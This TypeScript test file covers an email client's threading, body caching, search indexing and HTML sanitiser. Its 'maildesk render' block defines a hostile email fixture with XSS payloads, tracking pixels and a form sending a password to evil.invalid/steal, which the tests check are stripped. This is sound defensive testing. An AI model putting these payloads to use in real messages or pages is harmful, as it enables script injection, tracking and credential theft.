/**
 * Reading against a real Dovecot: a conversation spanning Inbox and Sent is one thread,
 * opening a message fetches its body once and keeps it (it opens again with the server
 * down), the "bodies" job fills recent bodies (within the window) into the search index, and
 * `maildesk show` / `maildesk render` print what the reader shows.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { renderCommand } from '../../src/cli/commands/render';
import { showCommand } from '../../src/cli/commands/show';
import type { MailDesk } from '../../src/core/maildesk';
import { searchMessages } from '../../src/core/search/search';
import { syncOnce } from '../../src/core/sync/once';
import { openMessage } from '../../src/core/threads/reading';
import { indexBodiesInBackground } from '../../src/core/search/bodyIndexer';
import type { BodySettings } from '../../src/core/config';
import { listThreads, threadMessages } from '../../src/core/threads/threads';
import { loadThreadView } from '../../src/core/threads/view';
import { requireDovecot, startDovecot, type Dovecot } from '../support/dovecot';
import { imapAccount, openCore, tempDir } from '../support/core';
import { rawMessage } from '../support/rawmail';
import { rawSql } from '../support/rawStoreSql';

const DAY = 86_400_000;

function io(): { out: string; err: string; io: { out(s: string): void; err(s: string): void } } {
  const r = { out: '', err: '', io: { out: (s: string) => void (r.out += s), err: (s: string) => void (r.err += s) } };
  return r;
}

describe('reading against Dovecot', function () {
  this.timeout(60_000);
  let dv: Dovecot;
  const cores: MailDesk[] = [];

  before(async function () {
    requireDovecot(this);
    dv = await startDovecot({ users: { reader: 'secret', cli: 'secret' } });
    const now = Date.now();
    const at = (daysAgo: number) => new Date(now - daysAgo * DAY);
    for (const user of ['reader', 'cli']) {
      dv.seedMaildir(user, 'INBOX', [
        { raw: rawMessage({ from: 'Ann <ann@example.test>', to: `${user}@example.test`, subject: 'Trip plan', messageId: 't1@example.test', date: at(5), text: 'Shall we go to the lighthouse?\n' }), flags: ['\\Seen'] },
        {
          raw: rawMessage({
            from: 'Ann <ann@example.test>',
            to: `${user}@example.test`,
            subject: 'Re: Trip plan',
            messageId: 't3@example.test',
            inReplyTo: 't2@example.test',
            references: ['t1@example.test', 't2@example.test'],
            date: at(3),
            html: '<p>Great, bring the <b>binoculars</b>.</p><img src="https://tracker.invalid/open.gif">',
          }),
        },
        { raw: rawMessage({ from: 'Zed <zed@example.test>', to: `${user}@example.test`, subject: 'Trip plan', messageId: 'z1@example.test', date: at(4), text: 'Same subject, other thread.\n' }), flags: ['\\Seen'] },
        { raw: rawMessage({ from: 'Old <old@example.test>', to: `${user}@example.test`, subject: 'Ancient', messageId: 'old@example.test', date: at(400), text: 'fossil words\n' }), flags: ['\\Seen'] },
      ]);
      // Our reply, with only In-Reply-To (as some clients write it), in Sent.
      dv.seedMaildir(user, 'Sent', [
        { raw: rawMessage({ from: `Me <${user}@example.test>`, to: 'ann@example.test', subject: 'Re: Trip plan', messageId: 't2@example.test', inReplyTo: 't1@example.test', date: at(4), text: 'Yes! Saturday.\n' }), flags: ['\\Seen'] },
      ]);
    }
  });
  afterEach(async () => {
    for (const c of cores.splice(0)) await c.close().catch(() => undefined);
  });
  after(async () => {
    await dv?.dispose();
  });

  async function synced(user: string, dataDir?: string, bodies?: BodySettings): Promise<MailDesk> {
    const c = await openCore(dataDir, { [user]: 'secret' });
    cores.push(c);
    await c.addAccount({ ...imapAccount(user, dv.port), bodies });
    const r = await syncOnce(c, [user]);
    assert.ok(r.ok, `sync failed: ${r.failed.map((j) => `${j.id}: ${j.errorMessage}`).join('; ')}`);
    return c;
  }

  it('shows a conversation spanning Inbox and Sent as one thread, and a same-subject message apart', async () => {
    if (!dv.running) await dv.start();
    const c = await synced('reader');
    const inbox = c.store.getFolder('reader', 'INBOX')!;
    const sent = c.store.getFolder('reader', 'Sent')!;
    const rows = listThreads(c.store, inbox.id);
    assert.deepEqual(
      rows.map((t) => ({ subject: t.newest.subject, count: t.count, unread: t.unread })),
      [
        { subject: 'Re: Trip plan', count: 3, unread: 1 },
        { subject: 'Trip plan', count: 1, unread: 0 },
        { subject: 'Ancient', count: 1, unread: 0 },
      ],
    );
    const msgs = threadMessages(c.store, 'reader', rows[0].threadKey);
    assert.deepEqual(
      msgs.map((m) => m.messageId),
      ['<t1@example.test>', '<t2@example.test>', '<t3@example.test>'],
    );
    assert.deepEqual(msgs[1].folderIds, [sent.id], 'our reply is shown from Sent');
    assert.equal(listThreads(c.store, sent.id)[0].count, 3, 'from Sent it is the same conversation');
  });

  it('fetches a body when the message is opened, keeps it, and shows it again with the server down', async () => {
    if (!dv.running) await dv.start();
    const dir = tempDir();
    try {
      // Bodies are not fetched ahead here (window 0), so opening is what fetches.
      const c = await synced('reader', dir, { days: 0 });
      const inbox = c.store.getFolder('reader', 'INBOX')!;
      const row = c.store.listMessages(inbox.id).find((m) => m.messageId === '<t3@example.test>')!;
      assert.equal(row.bodyBlob, null, 'no body before the message is opened');
      assert.deepEqual(searchMessages(c.store, 'binoculars'), [], 'body text is not searchable before it is fetched');

      const first = await openMessage(c, row.id, inbox.id, { allowRemote: false });
      assert.match(first.rendered.bodies[0].html, /binoculars/);
      assert.doesNotMatch(first.rendered.bodies[0].html, /tracker\.invalid/, 'the remote image is not in the page');
      assert.equal(first.rendered.blockedCount, 1);
      const kept = c.store.getMessage(row.id, inbox.id)!;
      assert.ok(kept.bodyBlob && fs.existsSync(path.join(dir, 'blobs')), 'the body is kept beside the database');
      assert.deepEqual(searchMessages(c.store, 'binoculars').map((h) => h.subject), ['Re: Trip plan']);

      // The whole thread view, as the panel builds it, with the newest (unread) message expanded.
      const view = await loadThreadView(c, 'reader', listThreads(c.store, inbox.id)[0].threadKey, { remoteAllowed: new Set() });
      assert.deepEqual(view.messages.map((m) => [m.from?.address, m.expanded]), [
        ['ann@example.test', false],
        ['reader@example.test', false],
        ['ann@example.test', true],
      ]);
      assert.equal(view.anyRemote, false);
      assert.deepEqual(view.remoteOrigins, []);
      // Remote content allowed for that one message: the page's CSP opens its image's origin, not every host.
      const allowed = await loadThreadView(c, 'reader', listThreads(c.store, inbox.id)[0].threadKey, { remoteAllowed: new Set([row.id]) });
      assert.equal(allowed.anyRemote, true);
      assert.deepEqual(allowed.remoteOrigins, ['https://tracker.invalid']);

      await dv.stop();
      const again = await openMessage(c, row.id, inbox.id, { allowRemote: false });
      assert.equal(again.raw.toString(), first.raw.toString(), 'opened from the kept copy while the server is down');
    } finally {
      if (!dv.running) await dv.start();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('the bodies job of sync --once fetches recent mail only (the window), into the search index', async () => {
    if (!dv.running) await dv.start();
    const c = await synced('reader', undefined, { days: 90 });
    const withBody = () => rawSql(c.store).all<{ m: string }>('SELECT message_id AS m FROM messages WHERE body_blob IS NOT NULL ORDER BY message_id').map((r) => r.m);
    assert.deepEqual(withBody(), ['<t1@example.test>', '<t2@example.test>', '<t3@example.test>', '<z1@example.test>'], 'the four messages of the last 90 days (Inbox and Sent), not the 400-day-old one');
    assert.equal(await indexBodiesInBackground(c.store), 4);
    assert.deepEqual(searchMessages(c.store, 'lighthouse').map((h) => h.subject), ['Trip plan']);
    assert.deepEqual(searchMessages(c.store, 'saturday').map((h) => h.folderPath), ['Sent']);
    assert.deepEqual(searchMessages(c.store, 'fossil'), [], 'old mail outside the window is not fetched');
    const inboxJob = c.store.getJob('reader:bodies:INBOX')!;
    assert.equal(inboxJob.status, 'done');
    assert.deepEqual({ fetched: inboxJob.progress?.fetched, total: inboxJob.progress?.total }, { fetched: 3, total: 3 }, 'Inbox: bodies 3 of 3');
    const again = await syncOnce(c, ['reader']);
    assert.ok(again.ok);
    assert.deepEqual(withBody().length, 4, 'nothing more is fetched on the next sync');
    assert.equal(await indexBodiesInBackground(c.store), 0, 'nothing is indexed twice');
  });

  it('maildesk show prints headers and text of a synced message', async () => {
    if (!dv.running) await dv.start();
    const dir = tempDir();
    try {
      await synced('cli', dir);
      for (const c of cores.splice(0)) await c.close();
      const cfg = path.join(dir, 'config.json');
      fs.writeFileSync(cfg, JSON.stringify({ accounts: [{ ...imapAccount('cli', dv.port), imap: { ...imapAccount('cli', dv.port).imap, passwordEnv: 'MAILDESK_TEST_CLI_PW' } }] }));
      process.env.MAILDESK_TEST_CLI_PW = 'secret';
      const uid = 1; // Dovecot numbers seeded mail in order: "Trip plan" is UID 1
      const r = io();
      const code = await showCommand({ config: cfg, dataDir: dir, account: 'cli', folder: 'INBOX', uid, json: false }, r.io);
      assert.equal(code, 0, r.err);
      assert.match(r.out, /^From: Ann <ann@example\.test>$/m);
      assert.match(r.out, /^Subject: Trip plan$/m);
      assert.match(r.out, /Shall we go to the lighthouse\?/);
      const bad = io();
      assert.equal(await showCommand({ config: cfg, dataDir: dir, account: 'cli', folder: 'INBOX', uid: 999, json: false }, bad.io), 1);
      assert.match(bad.err, /no message with UID 999/);
    } finally {
      delete process.env.MAILDESK_TEST_CLI_PW;
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('maildesk render', () => {
  const HOSTILE = rawMessage({
    from: 'Mallory <mallory@example.test>',
    to: 'victim@example.test',
    subject: 'Your invoice',
    html: [
      '<p>Hello <script>alert(1)</script>friend</p>',
      '<img src="https://evil.invalid/pixel.gif" onerror="alert(2)">',
      '<div style="background:url(https://evil.invalid/bg.png)">x</div>',
      '<style>@import url(https://evil.invalid/a.css); body{background:url(//evil.invalid/b.png)}</style>',
      '<img srcset="https://evil.invalid/1.png 1x, https://evil.invalid/2.png 2x">',
      '<svg><image href="https://evil.invalid/svg.png"/><script>alert(3)</script></svg>',
      '<a href="javascript:alert(4)">click</a> <a href="https://shop.example/pay">pay</a>',
      '<form action="https://evil.invalid/steal"><input name="pw"></form>',
      '<iframe src="https://evil.invalid/frame"></iframe>',
    ].join('\n'),
  });

  let dir: string;
  before(() => {
    dir = tempDir();
    fs.writeFileSync(path.join(dir, 'hostile.eml'), HOSTILE);
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('prints the sanitised page: no script, no remote load, no form, links inert, banner says what was blocked', async () => {
    const r = io();
    assert.equal(await renderCommand({ file: path.join(dir, 'hostile.eml'), allowRemote: false }, r.io), 0, r.err);
    const html = r.out;
    assert.match(html, /Hello\s*friend/);
    assert.doesNotMatch(html, /<script/i);
    assert.doesNotMatch(html, /\bon\w+\s*=/i, 'no event handler attributes');
    assert.doesNotMatch(html, /evil\.invalid/, 'no remote URL of any blocked resource is left in the page');
    assert.doesNotMatch(html, /<(form|iframe|input|svg)\b/i);
    assert.doesNotMatch(html, /(href|src|action)\s*=\s*["']?\s*javascript:/i, 'no javascript: URL in any attribute');
    assert.match(html, /Content-Security-Policy" content="default-src &#39;none&#39;; img-src data:; style-src/, 'the CSP allows only data: images');
    assert.match(html, /blocked to protect your privacy/);
    // The real link survives only as data for the host to show before opening.
    const link = /<a ([^>]*)>pay<\/a>/.exec(html)?.[1] ?? '';
    assert.match(link, /data-maildesk-href="https:\/\/shop\.example\/pay"/);
    assert.match(link, /(^|\s)href="#"/, 'the anchor itself goes nowhere');
    assert.match(r.err, /blocked/);
  });

  it('with --allow-remote lets https images through and says so in the CSP', async () => {
    const r = io();
    assert.equal(await renderCommand({ file: path.join(dir, 'hostile.eml'), allowRemote: true }, r.io), 0);
    assert.match(r.out, /img-src data: https:/);
    assert.match(r.out, /<img[^>]+src="https:\/\/evil\.invalid\/pixel\.gif"/);
    assert.doesNotMatch(r.out, /<script/i);
  });

  it('usage and unreadable files are errors', async () => {
    assert.equal(await renderCommand({ allowRemote: false }, io().io), 2);
    const r = io();
    assert.equal(await renderCommand({ file: path.join(dir, 'missing.eml'), allowRemote: false }, r.io), 1);
    assert.match(r.err, /cannot read/);
  });
});
